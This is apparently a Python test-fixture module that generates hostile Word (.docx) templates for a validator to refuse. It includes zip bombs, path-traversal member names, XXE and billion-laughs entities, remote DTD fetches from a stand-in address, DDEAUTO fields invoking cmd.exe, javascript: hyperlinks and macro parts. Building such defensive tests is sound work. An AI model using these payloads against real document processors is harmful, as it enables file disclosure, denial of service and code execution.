"""Hostile templates, made from one good one by operators: what is done to its package, and what refuses it.

    the members of a good template  ->  the members, or the bytes, of a hostile one

``HARMLESS`` are those that need no refusal, each with the reason that its test proves.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import packages
from packages import MAIN_PART

if TYPE_CHECKING:
    from collections.abc import Callable

    Members = dict[str, bytes]
    Operator = Callable[[Members], Members | bytes]

TYPES, RELS, MAIN_RELS = "[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels"
HEADER, SETTINGS, STYLES = "word/header2.xml", "word/settings.xml", "word/styles.xml"
CORE = "docProps/core.xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
ADDRESS = "http://192.0.2.1/a"


@dataclass(frozen=True, slots=True)
class Attack:
    """What is done to a good template, the code that refuses it, and the part that is told (None: none)."""

    operator: Operator
    code: str
    part: str | None = None


# Operators.


def put(name: str, old: str, new: str) -> Operator:
    """Return what replaces the first ``old`` of a member."""

    def changed(members: Members) -> Members:
        text = members[name].decode()
        assert old in text, (name, old)
        return {**members, name: text.replace(old, new, 1).encode()}

    return changed


def added(members: Members, **new: bytes) -> Members:
    """Return members with more of them; ``__`` in a name stands for a slash."""
    return {**members, **{name.replace("__", "/"): data for name, data in new.items()}}


def with_member(name: str, data: bytes, kind: str = "application/octet-stream") -> Operator:
    """Return what adds a member with its content type."""
    declared = put(TYPES, "</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>')
    return lambda members: {**_members(declared(members)), name: data}


def related(kind: str, target: str, *, mode: str = "External", of: str = MAIN_RELS) -> Operator:
    """Return what adds a relationship."""
    whole = kind if kind.startswith("http") else f"{OFFICE}/{kind}"
    outside = f' TargetMode="{mode}"' if mode else ""
    written = f'<Relationship Id="rIdX" Type="{whole}" Target="{target}"{outside}/></Relationships>'

    def changed(members: Members) -> Members:
        empty = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        known = members.get(of, empty.encode()).decode()
        return {**members, of: known.replace("</Relationships>", written).encode()}

    return changed


def both(*operators: Operator) -> Operator:
    """Return what does several things one after another."""

    def changed(members: Members) -> Members:
        for operator in operators:
            members = _members(operator(members))
        return members

    return changed


def _members(found: Members | bytes) -> Members:
    assert isinstance(found, dict)
    return found


def in_body(markup: str) -> Operator:
    """Return what puts markup at the beginning of the body."""
    return put(MAIN_PART, "<w:body>", f"<w:body>{markup}")


def in_header(markup: str) -> Operator:
    """Return what puts markup at the beginning of a header."""
    return put(HEADER, "<w:p>", f"{markup}<w:p>")


def runs(*texts: str, tag: str = "instrText") -> str:
    """Return the runs of an instruction."""
    return "".join(f'<w:r><w:{tag} xml:space="preserve">{text}</w:{tag}></w:r>' for text in texts)


def mark(kind: str) -> str:
    """Return the mark of a complex field."""
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def inner(*texts: str, tag: str = "instrText") -> str:
    """Return a complex field without its paragraph."""
    shown = "<w:r><w:t>x</w:t></w:r>"
    return mark("begin") + runs(*texts, tag=tag) + mark("separate") + shown + mark("end")


def field(*texts: str) -> str:
    """Return a paragraph with a complex field whose instruction stands in several runs."""
    return f"<w:p>{inner(*texts)}</w:p>"


def simple(instruction: str) -> str:
    """Return a paragraph with a simple field."""
    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'


def dtd(name: str, declared: str) -> Operator:
    """Return what puts a document type before the root of a part."""

    def changed(members: Members) -> Members:
        text = members[name].decode()
        head, rest = text.split("?>", 1) if text.startswith("<?xml") else ('<?xml version="1.0"', text)
        return {**members, name: f"{head}?><!DOCTYPE a [{declared}]>{rest}".encode()}

    return changed


def encoded(name: str, encoding: str, operator: Operator) -> Operator:
    """Return what does something to a part and writes it in another encoding."""

    def changed(members: Members) -> Members:
        done = _members(operator(members))
        text = done[name].decode()
        body = text.split("?>", 1)[1] if text.startswith("<?xml") else text
        return {**done, name: f'<?xml version="1.0" encoding="{encoding}"?>{body}'.encode(encoding)}

    return changed


# Archives that zipfile would not write.


def repacked(change: Callable[[bytearray], bytes | bytearray]) -> Operator:
    """Return what changes the bytes of the zip."""
    return lambda members: bytes(change(bytearray(packages.zipped(members))))


def bomb(*, lying: bool) -> Operator:
    """Return what adds a member of two hundred million bytes, which may say that it has ten."""

    def changed(members: Members) -> bytes:
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in members.items():
                archive.writestr(name, data)
            with archive.open("word/media/a.png", "w") as member:
                for _ in range(200):
                    member.write(bytes(10**6))
        data = bytearray(stream.getvalue())
        if lying:
            at = data.rindex(b"PK\x01\x02", 0, data.rindex(b"word/media/a.png"))
            data[at + 24 : at + 28] = struct.pack("<I", 10)
        return bytes(data)

    return changed


def overlapping(members: Members) -> bytes:
    """Have many names lead to the data of one member."""
    data = packages.zipped({**members, "word/media/a.png": zlib.compress(bytes(10**6))})
    end = data.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", data[end + 16 : end + 20])[0]
    last = data.rindex(b"PK\x01\x02", start, end)
    record = data[last:end]
    copies = [record.replace(b"a.png", f"{number}.png".encode()) for number in range(9)]
    whole = data[start:end] + b"".join(copies)
    count = len(members) + 1 + len(copies)
    return data[:start] + whole + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, len(whole), start, 0)


def doubled(name: str, second: str) -> Operator:
    """Return what adds a member under a name that there is, or one that is the same to others."""

    def changed(members: Members) -> bytes:
        # zipfile warns of a second name, so it is written as another of the same length.
        stand_in = "~" * len(second)
        return packages.zipped({**members, stand_in: members[name]}).replace(
            stand_in.encode(), second.encode()
        )

    return changed


def named(name: str) -> Operator:
    """Return what adds a member of a name; zipfile itself would mend some."""

    def changed(members: Members) -> bytes:
        stand_in = "x" * len(name.encode())
        data = packages.zipped({**members, stand_in: b"x"})
        return data.replace(stand_in.encode(), name.encode())

    return changed


def encrypted(data: bytearray) -> bytearray:
    """Set the flag of encryption of every member."""
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        data[at + 8] |= 1
    return data


def compressed(method: int) -> Operator:
    """Return what compresses the members in another way than packages are."""

    def changed(members: Members) -> bytes:
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", method) as archive:
            for name, data in members.items():
                archive.writestr(name, data)
        return stream.getvalue()

    return changed


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
XXE = '<!ENTITY x SYSTEM "file:///etc/hostname">'
LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
BINDING = (
    '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a/b" w:storeItemID="{1}"/></w:sdtPr>'
    "<w:sdtContent><w:p><w:r><w:t>x</w:t></w:r></w:p></w:sdtContent></w:sdt>"
)
MERGE = (
    "<w:mailMerge><w:mainDocumentType w:val='formLetters'/><w:dataType w:val='native'/>"
    "<w:connectString w:val='DSN=secret'/><w:query w:val='SELECT 1'/></w:mailMerge>"
)

_LINKS = (
    "image", "attachedTemplate", "oleObject", "frame", "subDocument", "video", "audio", "mailMergeSource",
    "mailMergeHeaderSource", "externalLink", "xmlMaps", "transform", "settings", "styles", "header", "theme",
    "hyperlinkBase",
)  # fmt: skip
_ZIP: dict[str, Attack] = {
    "a member that says it is small": Attack(bomb(lying=True), "T001"),
    "a member that is too large": Attack(bomb(lying=False), "T004"),
    "members that overlap": Attack(overlapping, "T001"),
    "a thousand times too many members": Attack(
        lambda members: {**members, **{f"word/media/{n}.png": b"" for n in range(3000)}}, "T004"
    ),
    "a nested zip": Attack(
        with_member("word/a.bin", packages.zipped({"a": bytes(10**6)})), "T005", "word/a.bin"
    ),
    "a main part of millions of elements": Attack(in_body("<w:r/>" * 1_100_000), "T004", MAIN_PART),
    "a part of millions of elements that is not rendered": Attack(
        with_member("customXml/item1.xml", b"<a>" + b"<b/>" * 1_100_000 + b"</a>", "application/xml"),
        "T004",
        "customXml/item1.xml",
    ),
    "an element of very many attributes": Attack(
        in_body("<w:p " + " ".join(f'w:a{number}="x"' for number in range(2000)) + "/>"), "T004", MAIN_PART
    ),
    "tags that never end": Attack(
        in_body("<w:p><w:r><w:t>" + "{{ x " * 100_000 + "</w:t></w:r></w:p>"), "T011", MAIN_PART
    ),
    "elements in one another": Attack(in_body("<w:sdt>" * 5000 + "</w:sdt>" * 5000), "T006", MAIN_PART),
    "the main part twice": Attack(doubled(MAIN_PART, MAIN_PART), "T003"),
    "the main part twice, in capitals": Attack(doubled(MAIN_PART, MAIN_PART.upper()), "T003"),
    "a way up": Attack(named("../../evil.xml"), "T085"),
    "a way up within": Attack(named("word/../../evil.xml"), "T085"),
    "a way from the root": Attack(named("/etc/evil"), "T085"),
    "a way of Windows": Attack(named("word\\..\\..\\evil.xml"), "T085"),
    "a drive": Attack(named("C:/evil.xml"), "T085"),
    "a share": Attack(named("//server/share/evil.xml"), "T085"),
    "a stream": Attack(named("word/document.xml:evil"), "T085"),
    "a name that ends in its middle": Attack(named("word/a.xml\x00.png"), "T085"),
    "a name with a line feed": Attack(named("word/a\nb.xml"), "T085"),
    "a name that a terminal obeys": Attack(named("word/\x1b[31m.xml"), "T085"),
    "a very long name": Attack(lambda members: {**members, "word/" + "x" * 300: b""}, "T085"),
    "encrypted members": Attack(repacked(encrypted), "T001"),
    "another file before it": Attack(repacked(lambda data: b"<html>" + data), "T001"),
    "members compressed as bzip2": Attack(compressed(zipfile.ZIP_BZIP2), "T001"),
    "members compressed as lzma": Attack(compressed(zipfile.ZIP_LZMA), "T001"),
    "a document with a password": Attack(lambda _: OLE, "T010"),
    "a cut archive": Attack(repacked(lambda data: data[:-30]), "T001"),
    "content that is not what its sum says": Attack(
        repacked(lambda data: data.replace(b"<w:body>", b"<w:bodx>", 1)), "T001"
    ),
}
_XML: dict[str, Attack] = {
    **{f"an entity of a file in {name}": Attack(dtd(name, XXE), "T006", name)
       for name in (TYPES, RELS, MAIN_RELS, MAIN_PART, HEADER, SETTINGS, STYLES, CORE)},
    "entities of entities": Attack(
        both(dtd(MAIN_PART, LAUGHS), in_body("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>")), "T006", MAIN_PART
    ),
    "entities of a parameter": Attack(
        dtd(HEADER, f'<!ENTITY % x SYSTEM "{ADDRESS}"> %x;'), "T006", HEADER
    ),
    "a document type elsewhere": Attack(
        put(STYLES, "<w:styles", f'<!DOCTYPE a SYSTEM "{ADDRESS}"><w:styles'), "T006", STYLES
    ),
    "a document type in two bytes a letter": Attack(
        encoded(SETTINGS, "utf-16", put(SETTINGS, "<w:settings", "<!DOCTYPE a [<!ENTITY b ''>]><w:settings")),
        "T006", SETTINGS,
    ),
    "a document type in a part of another name": Attack(
        with_member("word/a.dat", f"<!DOCTYPE a [{XXE}]><a>&x;</a>".encode(), "application/a+xml"),
        "T006", "word/a.dat",
    ),
    "a document type in a drawing": Attack(
        with_member("word/media/a.svg", f"<!DOCTYPE svg [{XXE}]><svg>&x;</svg>".encode(), "image/svg+xml"),
        "T006", "word/media/a.svg",
    ),
    "a document type in relationships of nothing": Attack(
        lambda members: added(members, word___rels__gone__xml__rels=b"", **{
            "word/_rels/gone.xml.rels": f"<!DOCTYPE a [{XXE}]><a/>".encode()}),
        "T006", "word/_rels/gone.xml.rels",
    ),
    "markup that is not closed": Attack(put(HEADER, "</w:hdr>", ""), "T006", HEADER),
    "bytes that are no letters": Attack(
        lambda members: {**members, HEADER: members[HEADER].replace(b"<w:p>", b"\xff<w:p>", 1)},
        "T006", HEADER,
    ),
    "a tag in a relationship": Attack(
        related("hyperlink", "https://example.org/{{ x }}"), "T019", MAIN_RELS
    ),
    "a tag in a content type": Attack(put(TYPES, "</Types>", "<!--{{ x }}--></Types>"), "T019", TYPES),
}  # fmt: skip
_OUTSIDE: dict[str, Attack] = {
    **{f"a link: {kind}": Attack(related(kind, ADDRESS), "T007", MAIN_RELS) for kind in _LINKS},
    "a link of the package": Attack(related("thumbnail", ADDRESS, of=RELS), "T007", RELS),
    "a link of the settings": Attack(
        related("attachedTemplate", "file://server/share/evil.dotm", of="word/_rels/settings.xml.rels"),
        "T007", "word/_rels/settings.xml.rels",
    ),
    "a link of the frames of a page": Attack(
        both(with_member("word/webSettings.xml", b"<w:webSettings xmlns:w='urn:a'/>", "application/xml"),
             related("frame", ADDRESS, of="word/_rels/webSettings.xml.rels")),
        "T007", "word/_rels/webSettings.xml.rels",
    ),
    "a link to a share": Attack(related("image", "\\\\server\\share\\a.png"), "T007", MAIN_RELS),
    "a link to a file": Attack(related("image", "file:///etc/hostname"), "T007", MAIN_RELS),
    "a part of another format": Attack(
        both(with_member("word/a.html", b"<script/>", "text/html"), related("aFChunk", "a.html", mode="")),
        "T007", MAIN_RELS,
    ),
    "a source of letters": Attack(put(SETTINGS, "</w:settings>", f"{MERGE}</w:settings>"), "T007", SETTINGS),
    "a picture of VML by its address": Attack(
        in_body(f'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
                f'<v:imagedata src="{ADDRESS}"/></v:shape></w:pict></w:r></w:p>'),
        "T007", MAIN_PART,
    ),
    "a drawing that leads out": Attack(
        with_member("word/media/a.svg", f'<svg><image href="{ADDRESS}"/></svg>'.encode(), "image/svg+xml"),
        "T007", "word/media/a.svg",
    ),
    **{f"a hyperlink: {target}": Attack(related("hyperlink", target), "T082", MAIN_RELS)
       for target in ("file:///C:/Windows/System32/calc.exe", "\\\\server\\share\\a", "//server/a", "a.exe",
                      "javascript:alert(1)", "ms-word:ofe|u|http://a", "search-ms:query=a",
                      "data:text/html,a", "smb://server/a", "http:\\\\server\\a")},
    "a hyperlink of VML": Attack(
        in_body('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="file://a/b"/>'
                "</w:pict></w:r></w:p>"),
        "T082", MAIN_PART,
    ),
}  # fmt: skip
_FIELDS: dict[str, Attack] = {
    **{f"a field: {name}": Attack(in_body(field(f' {name} "{ADDRESS}" ')), "X504", MAIN_PART)
       for name in ("DDE", "DDEAUTO", "INCLUDETEXT", "INCLUDEPICTURE", "LINK", "IMPORT", "DATABASE",
                    "AUTOTEXT", "MACROBUTTON", "EMBED", "CONTROL", "RD", "PRINT", "ADDIN", "ASK", "FILLIN",
                    "AUTOTEXTLIST")},
    "a simple field": Attack(in_body(simple("DDEAUTO c:\\\\cmd.exe")), "X504", MAIN_PART),
    "a field in small letters": Attack(in_body(field("ddeAuto a")), "X504", MAIN_PART),
    "a field in letters by number": Attack(in_body(field("&#68;D&#x45;AUTO a")), "X504", MAIN_PART),
    "a field over runs": Attack(in_body(field("D", "DE", "AU", "TO a")), "X504", MAIN_PART),
    "a field in a field": Attack(
        in_body(f"<w:p>{mark('begin')}{runs('IF 1 = 1 ')}{inner('DDEAUTO a')}{mark('end')}</w:p>"),
        "X504", MAIN_PART,
    ),
    "a field in what a field shows": Attack(
        in_body(f"<w:p>{mark('begin')}{runs('PAGE')}{mark('separate')}{inner('LINK a')}{mark('end')}</w:p>"),
        "X504", MAIN_PART,
    ),
    "a field over paragraphs": Attack(
        in_body(f"<w:p>{mark('begin')}{runs('INCLUDE')}</w:p><w:p>{runs('TEXT a')}{mark('end')}</w:p>"),
        "X504", MAIN_PART,
    ),
    "a field that was deleted": Attack(
        in_body(f'<w:p><w:del w:id="1" w:author="a">{inner("DDE a", tag="delInstrText")}</w:del></w:p>'),
        "X504", MAIN_PART,
    ),
    "a field in a header": Attack(in_header(field("INCLUDEPICTURE a")), "X504", HEADER),
    "a field that another one names": Attack(
        in_body(f"<w:p>{mark('begin')}{inner('QUOTE 68 68 69')}{runs(' a b')}{mark('end')}</w:p>"),
        "T086", MAIN_PART,
    ),
    "a field in quotation marks": Attack(in_body(field('"DDEAUTO" a')), "T086", MAIN_PART),
    "a field behind a letter that is not seen": Attack(in_body(field("\u200bDDEAUTO a")), "T086", MAIN_PART),
    "a field that nobody knows": Attack(in_body(field("EXECUTE a")), "T086", MAIN_PART),
    "a field to a file": Attack(in_body(field('HYPERLINK "file:///c:/a.exe"')), "T082", MAIN_PART),
    "a field to a share": Attack(in_body(field("HYPERLINK \\\\\\\\server\\\\a")), "T082", MAIN_PART),
    "a field to a file after its switches": Attack(
        in_body(field('HYPERLINK \\o "b" "file://server/a"')), "T082", MAIN_PART
    ),
    "a simple field to a script": Attack(
        in_body(simple("HYPERLINK &quot;javascript:a&quot;")), "T082", MAIN_PART
    ),
}  # fmt: skip
_MORE: dict[str, Attack] = {
    "a program by its name": Attack(with_member("word/vbaProject.bin", OLE), "T005"),
    "a program by its content type": Attack(
        with_member("word/a.bin", b"x", "application/vnd.ms-office.vbaProject"), "T005", "word/a.bin"
    ),
    "a program by its relationship": Attack(
        both(with_member("word/a.png", b"x", "image/png"),
             related(f"{MICROSOFT}/vbaProject", "a.png", mode="")),
        "T005", MAIN_RELS,
    ),
    "a program by its bytes": Attack(with_member("word/media/a.png", b"MZ" + bytes(64), "image/png"),
                                     "T005", "word/media/a.png"),
    "an object of old as a picture": Attack(with_member("word/media/a.emf", OLE, "image/x-emf"),
                                            "T005", "word/media/a.emf"),
    "an object by its relationship": Attack(
        both(with_member("word/a.png", b"x", "image/png"), related("oleObject", "a.png", mode="")),
        "T005", MAIN_RELS,
    ),
    "an embedded workbook": Attack(
        both(with_member("word/a.dat", b"x"), related("package", "a.dat", mode="")), "T005", MAIN_RELS
    ),
    "a control": Attack(
        with_member("word/a.xml", b"<a/>", "application/vnd.ms-office.activeX+xml"), "T005", "word/a.xml"
    ),
    "keys with commands": Attack(
        both(with_member("word/customizations.xml", b"<a/>",
                         "application/vnd.ms-word.keyMapCustomizations+xml"),
             related(f"{MICROSOFT}/keyMapCustomizations", "customizations.xml", mode="")),
        "T005", MAIN_RELS,
    ),
    "an extension of the web": Attack(
        both(with_member("word/we.xml", b"<a/>", "application/vnd.ms-office.webextension+xml"),
             related("http://schemas.microsoft.com/office/2011/relationships/webextension", "word/we.xml",
                     mode="", of=RELS)),
        "T005", RELS,
    ),
    "a ribbon with commands": Attack(
        both(with_member("customUI/a.xml", b"<a/>", "application/xml"),
             related("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
                     "customUI/a.xml", mode="", of=RELS)),
        "T005", RELS,
    ),
    "a document with macros": Attack(
        put(TYPES, "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "vnd.ms-word.document.macroEnabled.main+xml"),
        "T005", MAIN_PART,
    ),
    "text that data replaces": Attack(in_body(BINDING), "T083", MAIN_PART),
    "text of a header that data replaces": Attack(in_header(BINDING), "T083", HEADER),
    "text that data of a new kind replaces": Attack(
        in_body(BINDING.replace("w:dataBinding", "n:dataBinding").replace(
            "<w:sdt>", '<w:sdt xmlns:n="http://schemas.microsoft.com/office/word/2012/wordml">')),
        "T083", MAIN_PART,
    ),
    "a signature": Attack(
        both(with_member("_xmlsignatures/origin.sigs", b"",
                         "application/vnd.openxmlformats-package.digital-signature-origin"),
             related("http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin",
                     "_xmlsignatures/origin.sigs", mode="", of=RELS)),
        "T084", RELS,
    ),
    "a header that says it is a picture": Attack(
        put(TYPES, "wordprocessingml.header+xml", "wordprocessingml.footer+xml"), "T056", MAIN_RELS
    ),
    "a main part that says it is a picture": Attack(
        put(TYPES, "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "image/png"),
        "T002", MAIN_PART,
    ),
    "a part with two content types": Attack(
        put(TYPES, "</Types>", f'<Override PartName="/{HEADER}" ContentType="text/html"/></Types>'),
        "T025", TYPES,
    ),
    "a member without a content type": Attack(
        lambda members: {**members, "word/media/a.exe": b"x"}, "T056", TYPES
    ),
    "a template of Word": Attack(
        put(TYPES, "wordprocessingml.document.main+xml", "wordprocessingml.template.main+xml"), "T010"
    ),
    "two main parts": Attack(related("officeDocument", "word/header2.xml", mode="", of=RELS), "T002", RELS),
    "a relationship to nothing": Attack(related("header", "gone.xml", mode=""), "T008", MAIN_RELS),
    "a relationship twice": Attack(
        both(related("theme", "document.xml", mode=""), related("theme", "document.xml", mode="")),
        "T020", MAIN_RELS,
    ),
    "a way up in a relationship": Attack(
        related("header", "../../../etc/hostname", mode=""), "T008", MAIN_RELS
    ),
}  # fmt: skip

#: Every attack by what it is.
ATTACKS: dict[str, Attack] = {**_ZIP, **_XML, **_OUTSIDE, **_FIELDS, **_MORE}

_INSTRUCTION = '<?xml-stylesheet href="http://192.0.2.1/a.xsl" type="text/xsl"?>'
#: What is let through, and why it does no harm.
HARMLESS: dict[str, tuple[Operator, str]] = {
    "an instruction for style in the main part": (
        put(MAIN_PART, "<w:document", f"{_INSTRUCTION}<w:document"),
        "the parts that are rendered are written without instructions",
    ),
    "an instruction for style in another part": (
        put(STYLES, "<w:styles", f"{_INSTRUCTION}<w:styles"),
        "Word and LibreOffice read no instructions in parts of a package",
    ),
    "a hyperlink to a page": (related("hyperlink", "https://example.org/a"), "it waits for its reader"),
    "a field to a page": (in_body(field('HYPERLINK "https://example.org/a"')), "it waits for its reader"),
    "a field to a place in the document": (in_body(field('HYPERLINK \\l "a"')), "it leads nowhere else"),
    "bytes after the archive's end": (
        lambda members: packages.zipped(members)[:-2] + b"\x05\x00MZxxx",
        "documents are packed anew from the members",
    ),
    "data of the author that nothing is bound to": (
        with_member("customXml/item1.xml", b"<a>b</a>", "application/xml"),
        "no control takes its text from it",
    ),
}


#: Tags that would work without end, with the data that they are given: the limits of a document stop them.
BOMBS: dict[str, tuple[str, dict[str, Any]]] = {
    "lists of lists": ("{% set a = [1] %}" + "{% set a = [a, a] %}" * 30 + "{% if a == a %}а{% endif %}", {}),
    "a condition in a loop": (
        "{% for i in xs %}{% if i %}" + "а" * 10_000 + "{% endif %}{% endfor %}",
        {"xs": [1] * 100_000},
    ),
    "a filter in a loop": (
        "{% for i in xs %}{{ x | upper }}{% endfor %}",
        {"xs": [1] * 100_000, "x": "а" * 10_000},
    ),
    "line feeds": ("{{ x }}", {"x": "\n" * 4_000_000}),
    "one long text": ("{{ x }}", {"x": "а" * 4_900_000}),
    "letters as a format": ("{% if x is odd %}а{% endif %}", {"x": "%2000000000d"}),
    "a search in a loop": (
        "{% for i in xs %}{% if 5 in ys %}а{% endif %}{% endfor %}",
        {"xs": [1] * 100_000, "ys": [1] * 100_000},
    ),
    "codes": ("{% for i in xs %}{{ 'а' | qr }}{% endfor %}", {"xs": [1] * 2000}),
}


def hostile(operator: Operator, members: Members) -> bytes:
    """Return the bytes of a hostile template."""
    found = operator(members)
    return found if isinstance(found, bytes) else packages.zipped(found)
